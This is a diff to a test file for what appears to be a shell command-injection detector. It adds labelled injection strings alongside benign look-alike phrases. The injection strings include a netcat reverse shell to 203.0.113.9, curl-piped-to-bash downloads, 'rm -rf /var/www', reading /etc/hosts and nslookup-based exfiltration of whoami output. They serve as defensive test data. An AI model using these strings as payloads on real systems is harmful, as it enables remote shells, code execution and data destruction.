@@ -27,6 +27,7 @@ describe('a command is found where a shell begins one', () => {
     ['|/usr/bin/id', 'separator and a program by its path'],
     ['`id`', 'substitution of a command'],
     ['x$(hostname)', 'substitution of a command'],
+    ['"; env; echo "', 'separator and the name of a program'],
     ['<(curl 10.0.0.1)', 'substitution of a command'],
     ["system('ls')", 'call that runs a command'],
     [';history', 'separator and the name of a program'],
@@ -114,13 +115,58 @@ describe('command lines alone and commands in prose are left to stricter levels'
     expect(detectCommandLine(value)).not.toBeNull();
   });
 
+  test.each(['please run this for me; wget -q x.example/a', 'to see it in the terminal: $(cat /srv/key)'])(
+    '%j',
+    (value) => {
+      expect(detectShell(value)).toBeNull();
+      expect(detectCommand(value)).not.toBeNull();
+    },
+  );
+});
+
+describe('beside prose a command is judged by what it does', () => {
   test.each([
-    'please run this for me; wget -q x.example/a',
-    'look at all of it with $(cat /srv/key) at least',
+    ['look at all of it with $(cat /srv/key) at least', 'substitution of a command'],
+    ['Annual report of 2024 $(sleep 10)', 'substitution of a command'],
+    ['one two three $(curl x|sh)', 'substitution of a command'],
+    ['Best regards, Anna $(whoami)', 'substitution of a command'],
+    ['kind words <(wget http://203.0.113.9/x) here', 'substitution of a command'],
+    ['please send it to `nslookup $(whoami).x.example`', 'substitution of a command'],
+    ['hello there && wget http://x.example/a', 'separator and a command'],
+    ['my favourite colour is blue; curl -s http://203.0.113.9/i.sh | bash', 'separator and a command'],
+    ['a nice hotel with pool | cat /etc/hosts', 'separator and a command'],
+    ['our team likes it; nc -e /bin/sh 203.0.113.9 4444', 'separator and a command'],
+    ['name of the year; rm -rf /var/www', 'separator and a command'],
+    ['lorem ipsum dolor || sleep 15 ||', 'separator and a command'],
+    ['a happy customer came ; /usr/bin/id', 'separator and a command'],
+  ])('%j: %s', (value, expected) => expect(detectShell(value)).toBe(expected));
+
+  test.each(['$(id) hello there friend', 'a;id hello there', 'subject line of mail; sleep 15 #'])(
+    '%j',
+    (value) => {
+      expect(detectShell(value)).toBeNull();
+      expect(detectCommandLine(value)).not.toBeNull();
+    },
+  );
+
+  test.each([
+    'In bash, $(date) is replaced by the current date',
+    'Dear $(name), your order $(id) ships on $(date).',
+    'docker run --user $(id -u):$(id -g) -v $(pwd):/app image',
+    'sudo chown -R $(whoami) ~/.npm',
+    'Install with `curl -fsSL https://get.example.com | sh`',
+    'Run `ls -la` to list all files, `id` to see groups',
+    '`users`.`id` = `orders`.`user_id`',
+    '| `id` | `name` |',
+    'First cd /opt && wget https://x.example/f.tgz && tar xzf f.tgz',
+    'Please sleep; sleep 8 hours a night',
+    'Jack & Jill; kill -9 joke',
+    'unplug the router; wait; then ping 192.168.1.1',
+    'You can get it from https://x.example/a; curl or wget works',
+    'Curl your hair first; cut it later',
   ])('%j', (value) => {
     expect(detectShell(value)).toBeNull();
     expect(detectCommandLine(value)).toBeNull();
-    expect(detectCommand(value)).not.toBeNull();
   });
 });
 
